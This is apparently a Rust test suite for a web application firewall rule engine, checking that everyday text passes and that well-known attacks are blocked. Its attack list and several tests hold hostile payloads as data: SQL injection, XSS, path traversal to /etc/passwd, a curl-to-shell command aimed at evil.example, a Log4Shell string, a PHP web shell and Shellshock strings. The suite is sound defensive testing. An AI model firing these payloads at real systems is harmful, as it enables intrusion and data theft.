//! The baseline over single requests: prose is no attack, well-known attacks are stopped.

#![allow(clippy::unwrap_used, reason = "tests")]

use argos_seclang::{Mode, NoFiles, Now, Outcome, RuleSet, Verdict};

fn set() -> RuleSet {
    RuleSet::builder(NoFiles).baseline().paranoia(1).thresholds(5, 4).compile().unwrap().0
}

fn request(set: &RuleSet, uri: &str, body: Option<(&str, &[u8])>) -> Outcome {
    let mut transaction = set.transaction(Now::default());
    transaction.request_line(if body.is_some() { b"POST" } else { b"GET" }, uri.as_bytes(), b"HTTP/1.1");
    transaction.request_header(b"Host", b"shop.example");
    transaction
        .request_header(b"User-Agent", b"Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0");
    transaction.request_header(b"Accept", b"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8");
    transaction.request_header(b"Referer", b"https://shop.example/list?sort=price&page=2#top");
    transaction.request_header(b"Cookie", b"session=0a9f-33; theme=dark; _ga=GA1.2.1234.5678");
    if let Some((kind, bytes)) = body {
        if kind != NO_TYPE {
            transaction.request_header(b"Content-Type", kind.as_bytes());
        }
        transaction.request_header(b"Content-Length", bytes.len().to_string().as_bytes());
    }
    if transaction.phase1().is_none() {
        if let Some((_, bytes)) = body.filter(|_| transaction.wants_request_body()) {
            transaction.request_body(bytes);
        }
        transaction.phase2();
    }
    transaction.finish()
}

/// In place of a type: no header says one.
const NO_TYPE: &str = "none";

fn encode(text: &str) -> String {
    text.bytes()
        .map(|byte| if byte.is_ascii_alphanumeric() { char::from(byte).to_string() } else { format!("%{byte:02X}") })
        .collect()
}

fn why(outcome: &Outcome) -> Vec<String> {
    let logged = outcome.matched.iter().filter(|matched| matched.log);
    logged.map(|matched| format!("{} {} {}", matched.id, matched.variable, matched.data)).collect()
}

const ORDINARY: &[&str] = &[
    "I have 5 in stock - thanks & see you",
    "Please select an item from the list (if you can) where you live",
    "the user (admin) and all version(s) of the database(s)",
    "Tom and Jerry; more at 11",
    "\"Tom\" and \"Jerry\" are the \"best\" #1 team",
    "It's Bob's turn, isn't it? Don't worry",
    "our system (new) can include (or require) extras at runtime.",
    "That costs $100 (incl. VAT), 20% off for you",
    "Red alert (today): union rates or select rates, whichever is lower",
    "A & top quality | find me a cat; echo park is nice",
    "if not defined otherwise, set the table for 100% of guests",
    "Order by 5 pm and group by size",
    "create user guide, drop me a line, delete from cart",
    "a < b and b > c, so 1 < 2",
    "++++++++++++++++++++++++++++ ---------------------- ===========",
    "Straße 12, Zürich — naïve café 日本語",
    "https://example.com/path?query=1&other=2#frag",
    "john.doe+tag@example.co.uk",
    "O'Brien & Sons (Ltd.)",
    "50% discount, 3/4 cup, 10-12 pieces; 7*6=42",
    "The process. Exit through door B; the script is over",
    "2026-03-02T10:11:12Z",
    "{\"a\": [1, 2, 3], \"b\": \"c\"}",
    "Hello,\nthis is a letter.\n\nLast line; who knows?",
    "C:\\Users\\me\\Documents\\report.pdf",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
];

const ATTACKS: &[&str] = &[
    "1' OR '1'='1",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "1 UNION SELECT username, password FROM users--",
    "x' INTO OUTFILE '/var/www/shell.php'--",
    "../../../../etc/passwd",
    "; cat /etc/passwd",
    "$(curl http://evil.example/x.sh|sh)",
    "${jndi:ldap://evil.example/a}",
    "<?php system($_GET['c']); ?>",
    "http://169.254.169.254/latest/meta-data/",
    "*)(uid=*))(|(uid=*",
    "{{7*7}}",
    "() { :;}; /bin/bash -c id",
];

#[test]
fn ordinary_text_passes() {
    let set = set();
    let mut wrong = Vec::new();
    let mut look = |text: &str, outcome: Outcome| {
        if outcome.verdict != Verdict::Pass || outcome.score_in > 0 {
            wrong.push(format!("{text}: {:?}", why(&outcome)));
        }
    };
    look("/hello", request(&set, "/hello", None));
    for text in ORDINARY {
        let form = format!("title=note&text={}", encode(text));
        look(text, request(&set, &format!("/search?q={}", encode(text)), None));
        look(text, request(&set, "/notes", Some(("application/x-www-form-urlencoded", form.as_bytes()))));
        let json = serde_json::json!({ "title": "note", "lines": [text, 5, null, true] }).to_string();
        look(text, request(&set, "/notes", Some(("application/json; charset=utf-8", json.as_bytes()))));
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn well_known_attacks_are_stopped_wherever_they_stand() {
    let set = set();
    let mut wrong = Vec::new();
    for text in ATTACKS {
        let form = format!("a=b&text={}", encode(text));
        let json = serde_json::json!({ "deep": { "list": [text] } }).to_string();
        for (place, outcome) in [
            ("query", request(&set, &format!("/?q={}", encode(text)), None)),
            ("form", request(&set, "/", Some(("application/x-www-form-urlencoded", form.as_bytes())))),
            ("json", request(&set, "/", Some(("application/vnd.x+json", json.as_bytes())))),
        ] {
            if outcome.verdict != Verdict::Blocked || outcome.interrupted.is_none_or(|stop| stop.status != 403) {
                wrong.push(format!("{place}: {text}"));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn a_type_that_says_nothing_hides_no_attack() {
    let set = set();
    let form = format!("a=b&text={}", encode("1' OR '1'='1' UNION SELECT password FROM users-- -"));
    let part = "--x\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n<script>alert(1)</script>\r\n--x--\r\n";
    for (kind, body) in [
        (NO_TYPE, form.as_str()),
        ("", &form),
        ("foo/bar", &form),
        ("image/png, application/x-www-form-urlencoded", &form),
        ("application/x-www-form-urlencoded, x", &form),
        ("multipart/form-data, boundary=x", part),
        ("multipart/form-data boundary=x", part),
    ] {
        assert_eq!(request(&set, "/", Some((kind, body.as_bytes()))).verdict, Verdict::Blocked, "{kind:?}");
    }
    for kind in
        [NO_TYPE, "foo/bar", "application/vnd.ms-excel.sheet.macroEnabled.12", "text/plain;charset=utf-8", "a/b ; c"]
    {
        let outcome = request(&set, "/", Some((kind, b"a=b&text=good+morning")));
        assert_eq!((outcome.verdict, outcome.score_in), (Verdict::Pass, 0), "{kind}: {:?}", why(&outcome));
    }
}

#[test]
fn names_of_uploaded_files_and_odd_headers_are_looked_at() {
    let set = set();
    for (name, content, verdict) in [
        ("../../../etc/cron.d/x", "1", Verdict::Blocked),
        ("<script>alert(1)</script>", "1", Verdict::Blocked),
        ("", "<script>alert(1)</script>", Verdict::Blocked),
        ("", "", Verdict::Pass),
        ("It's a report (final) - 2026.pdf", "%PDF", Verdict::Pass),
    ] {
        let body = format!(
            "--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{name}\"\r\n\r\n{content}\r\n--x--\r\n"
        );
        let outcome = request(&set, "/", Some(("multipart/form-data; boundary=x", body.as_bytes())));
        assert_eq!(outcome.verdict, verdict, "{name}: {:?}", why(&outcome));
    }
    let mut transaction = set.transaction(Now::default());
    transaction.request_line(b"GET", b"/", b"HTTP/1.1");
    transaction.request_header(b"Host", b"shop.example");
    transaction.request_header(b"X-Test", b"() { :; }; echo x");
    transaction.phase1();
    transaction.phase2();
    assert_eq!(transaction.finish().verdict, Verdict::Blocked);
}

#[test]
fn the_blocking_uris_of_the_guide_are_blocked() {
    for uri in ["/?q=1%27%20OR%20%271%27=%271", "/?q=%3Cscript%3Ealert(1)%3C/script%3E", "/.env", "/.git/config"] {
        assert_eq!(request(&set(), uri, None).verdict, Verdict::Blocked, "{uri}");
    }
}

#[test]
fn a_rule_of_the_caller_counts_wherever_it_was_added() {
    let rule = r#"SecRule ARGS:q "@streq boo" "id:100001,phase:2,pass,setvar:tx.inbound_anomaly_score_pl1=+5""#;
    for before in [true, false] {
        let builder = RuleSet::builder(NoFiles).thresholds(5, 4);
        let builder = match before {
            true => builder.rules_str("own.conf", rule).baseline(),
            false => builder.baseline().rules_str("own.conf", rule),
        };
        let (set, _) = builder.compile().unwrap();
        let outcome = request(&set, "/?q=boo", None);
        assert_eq!((outcome.verdict, outcome.score_in), (Verdict::Blocked, 5));
    }
}

#[test]
fn a_higher_threshold_and_detect_mode_let_an_attack_pass() {
    let (set, _) = RuleSet::builder(NoFiles).baseline().thresholds(1000, 1000).compile().unwrap();
    let outcome = request(&set, "/?q=1%27%20OR%20%271%27=%271", None);
    assert_eq!(outcome.verdict, Verdict::Pass);
    assert!(outcome.score_in >= 5);
    let (set, _) = RuleSet::builder(NoFiles).baseline().thresholds(5, 4).mode(Mode::Detect).compile().unwrap();
    let outcome = request(&set, "/?q=1%27%20OR%20%271%27=%271", None);
    assert_eq!((outcome.verdict, outcome.interrupted), (Verdict::Detected, None));
}

#[test]
fn an_answer_with_an_sql_error_is_stopped() {
    let set = set();
    let mut transaction = set.transaction(Now::default());
    transaction.request_line(b"GET", b"/", b"HTTP/1.1");
    transaction.request_header(b"Host", b"a");
    transaction.phase1();
    transaction.phase2();
    transaction.response(200, b"HTTP/1.1");
    transaction.response_header(b"Content-Type", b"text/html; charset=utf-8");
    assert!(transaction.phase3().is_none());
    assert!(transaction.wants_response_body());
    transaction.response_body(b"<b>You have an error in your SQL syntax; check the manual</b>");
    assert_eq!(transaction.phase4().unwrap().phase, 4);
    let outcome = transaction.finish();
    assert_eq!((outcome.verdict, outcome.score_out), (Verdict::Blocked, 4));
}

#[test]
fn paranoia_decides_which_rules_run_and_which_count() {
    let outcome = |builder: argos_seclang::Builder| {
        let (set, _) = builder.baseline().thresholds(5, 4).compile().unwrap();
        let outcome = request(&set, "/?u=https%3A%2F%2Fother.example%2F", None);
        (outcome.verdict, outcome.score_in, outcome.matched.iter().any(|matched| matched.id == 5005))
    };
    assert_eq!(outcome(RuleSet::builder(NoFiles).paranoia(1)), (Verdict::Pass, 0, false));
    assert_eq!(outcome(RuleSet::builder(NoFiles).paranoia(1).detection_paranoia(2)), (Verdict::Pass, 0, true));
    assert_eq!(outcome(RuleSet::builder(NoFiles).paranoia(2)), (Verdict::Blocked, 5, true));
}

#[test]
fn the_baseline_loads_without_warnings_and_leaves_other_ids_free() {
    let (set, report) = RuleSet::builder(NoFiles).baseline().compile().unwrap();
    assert_eq!(set.rule_count(), report.rules);
    assert!(report.warnings.is_empty(), "{:?}", report.warnings);
    let taken = "SecAction \"id:999,phase:1,pass\"\nSecAction \"id:10000,phase:1,pass\"";
    assert!(RuleSet::builder(NoFiles).baseline().rules_str("own.conf", taken).compile().is_ok());
    assert!((1..=2).chain([4]).all(|phase| set.has_phase(phase)) && !set.has_phase(5));
}
